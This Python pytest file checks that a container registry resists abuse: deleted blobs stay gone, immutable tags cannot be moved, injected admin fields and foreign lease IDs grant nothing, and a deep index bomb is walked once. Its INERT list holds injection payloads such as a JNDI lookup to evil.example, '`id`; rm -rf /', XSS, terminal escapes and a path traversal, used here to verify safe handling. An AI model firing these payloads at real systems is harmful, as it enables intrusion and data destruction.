"""Attacks by what is pushed, deleted and named."""

from __future__ import annotations

import json
import time

import httpx
import pytest

from tests.nodes import RunningNode, log_lines
from tests.protocol.target import OCI_INDEX, OCI_MANIFEST, Pushed, Target, digest_of, image, index, noise, refused

INERT = (
    "{{ config }}",
    "${jndi:ldap://evil.example/x}",
    "$(id)",
    "`id`; rm -rf /",
    "<script>alert(1)</script>",
    "\x1b]0;owned\x07\x1b[2J",
    "line\nlevel=error forged",
    "%s%n",
    "../../etc/passwd",
)


@pytest.mark.attack("A-delete-then-touch")
def test_what_b_does_with_a_blob_gives_a_nothing_back(target: Target) -> None:
    a, b, layer = target.repository(), target.repository(), noise()
    pushed = target.image(a, "1.0", (layer,))
    digest = digest_of(layer)
    target.blob(b, layer)
    for reference in (f"manifests/{pushed.digest}", f"blobs/{digest}"):
        assert target.http.delete(f"/v2/{a}/{reference}").status_code == 202
    touches = (
        lambda: target.blob(b, layer),
        lambda: target.blob_bytes(b, digest),
        lambda: target.image(b, "1.0", (layer,)),
        lambda: target.http.post(f"/v2/{b}/blobs/uploads/", params={"mount": digest, "from": b}),
        lambda: target.http.post(f"/v2/{target.repository()}/blobs/uploads/", params={"mount": digest, "from": b}),
        lambda: target.put(b, pushed.digest, pushed.content),
    )
    for touch in touches:
        touch()
        assert target.blob_status(a, digest) == 404
        assert target.status(a, pushed.digest) == target.status(a, "1.0") == 404
    refused(target.put(a, "1.0", pushed.content), (400, 404), "MANIFEST_BLOB_UNKNOWN")


@pytest.mark.attack("A-create-only-retag")
def test_an_immutable_tag_moves_by_no_way(node: RunningNode, target: Target) -> None:
    repository = target.repository()
    first, second = target.image(repository, "v1"), target.image(repository, "other")
    headers = {"content-type": OCI_MANIFEST}
    for http in (target.http, node.client("ci"), node.client("towpath-engine")):
        ways = (
            http.put(f"/v2/{repository}/manifests/v1", content=second.content, headers=headers),
            http.put(
                f"/v2/{repository}/manifests/{second.digest}?tag=new&tag=v1", content=second.content, headers=headers
            ),
            http.delete(f"/v2/{repository}/manifests/v1"),
            http.delete(f"/v2/{repository}/manifests/{first.digest}"),
        )
        for answer in ways:
            refused(answer, 403, "DENIED")
    with node.client("towpath-engine") as engine:
        lease = engine.post(f"/_towpath/v1/r/{repository}/_/leases", json={"holder": "x", "ttl": 60}).json()
        change = {"tag": "v1", "expect": first.digest, "to": second.digest}
        body = {
            "lease": lease["id"],
            "token": lease["token"],
            "not_after": time.time() + 60,
            "actor": "x",
            "tags": [change],
        }
        assert engine.put(f"/_towpath/v1/r/{repository}/_/transactions/t1", json=body).status_code == 403
    assert target.get(repository, "v1").content == first.content
    assert target.tags(repository) == ["other", "v1"]
    assert target.put(repository, "v1", first.content).status_code == 201  # the same again moves nothing


@pytest.mark.attack("A-extra-json-fields")
def test_fields_that_nobody_asked_for_grant_nothing(node: RunningNode, target: Target) -> None:
    """In the token form, and in a body of the extension."""
    repository = target.repository("hidden")
    target.image(repository, "1.0")
    name, secret = node.auth("reader")
    form = {
        **{"grant_type": "password", "username": name, "password": secret, "service": "box"},
        **{
            "scope": f"repository:{repository}:pull",
            "sub": "dev",
            "account": "dev",
            "admin": "true",
            "has_admin_role": "1",
        },
        "access": json.dumps([{"type": "repository", "name": repository, "actions": ["pull"]}]),
    }
    token = httpx.post(f"{node.url}/auth/token", data=form, trust_env=False).json()["token"]
    bearer = {"authorization": f"Bearer {token}"}
    assert httpx.get(f"{node.url}/v2/{repository}/manifests/1.0", headers=bearer, trust_env=False).status_code == 404
    with node.client("towpath-engine") as engine:
        url = f"/_towpath/v1/r/{repository}/_/leases"
        for extra in ({"token": 10**9}, {"identity": "dev"}, {"admin": True}, {"__class__": "x"}):
            answer = engine.post(url, json={"holder": "x", "ttl": 60, **extra})
            assert answer.status_code == 400
            assert answer.json()["errors"][0]["code"] == "REQUEST_INVALID"
    with node.client("reader") as reader:
        assert reader.post(url, json={"holder": "x", "ttl": 60, "allow": ["promote"]}).status_code == 403


@pytest.mark.attack("A-foreign-object-ids")
def test_an_id_means_nothing_in_another_repository(node: RunningNode, target: Target) -> None:
    mine, theirs = target.repository(), target.repository()
    pushed = {each: target.image(each, "1.0") for each in (mine, theirs)}
    with node.client("towpath-engine") as engine:
        lease = engine.post(f"/_towpath/v1/r/{theirs}/_/leases", json={"holder": "x", "ttl": 60}).json()
        elsewhere = f"/_towpath/v1/r/{mine}/_"
        renewal = {"token": lease["token"], "ttl": 60}
        for method in ("PUT", "DELETE"):
            answer = engine.request(method, f"{elsewhere}/leases/{lease['id']}", json=renewal)
            assert answer.status_code in (404, 410)
        change = {"tag": "1.0", "expect": pushed[mine].digest, "to": None}
        body = {
            "lease": lease["id"],
            "token": lease["token"],
            "not_after": time.time() + 60,
            "actor": "x",
            "tags": [change],
        }
        assert engine.put(f"{elsewhere}/transactions/t1", json=body).status_code in (404, 409, 410)
        assert engine.get(f"{elsewhere}/transactions/t1").status_code == 404
        assert engine.get(f"{elsewhere}/closure/{pushed[theirs].digest}").status_code in (200, 404)
        assert engine.put(f"/_towpath/v1/r/{theirs}/_/leases/{lease['id']}", json=renewal).status_code == 200
    assert target.get(mine, "1.0").content == pushed[mine].content
    location = target.start(theirs)
    for method in ("GET", "PATCH", "DELETE"):
        answer = target.http.request(method, location.replace(theirs, mine))
        refused(answer, 404, "BLOB_UPLOAD_UNKNOWN")


@pytest.mark.attack("A-deep-index")
def test_an_index_thirty_deep_is_walked_once(node: RunningNode, target: Target) -> None:
    """Every level names the one below twice: 2^30 walks for whoever does not remember."""
    repository = target.repository()
    child: Pushed = target.image(repository)
    for level in range(30):
        content = index(child, child, annotations={"level": str(level)})
        child = target.pushed(repository, "", content, OCI_INDEX)
    with node.client("towpath-engine", timeout=60) as engine:
        report = engine.get(f"/_towpath/v1/r/{repository}/_/closure/{child.digest}").json()
    assert (report["complete"], report["manifests"]) == (True, 31)


@pytest.mark.attack("A-labels-inert")
def test_labels_and_annotations_are_letters(node: RunningNode, target: Target) -> None:
    repository = target.repository()
    subject = target.image(repository, "1.0")
    config = json.dumps({"config": {"Labels": {text: text for text in INERT}}}).encode()
    target.blob(repository, config)
    content = image(config=config, annotations={text: text for text in INERT}, subject=subject.descriptor())
    target.pushed(repository, "labelled", content)
    assert target.get(repository, "labelled").content == content
    assert target.blob_bytes(repository, digest_of(config)) == config
    (found,) = target.referrers(repository, subject.digest)
    assert found["annotations"] == {text: text for text in INERT}
    logged = node.log.read_text()
    assert all(text not in logged for text in INERT)
    assert "\x1b" not in logged
    assert log_lines(node)  # still one JSON object a line
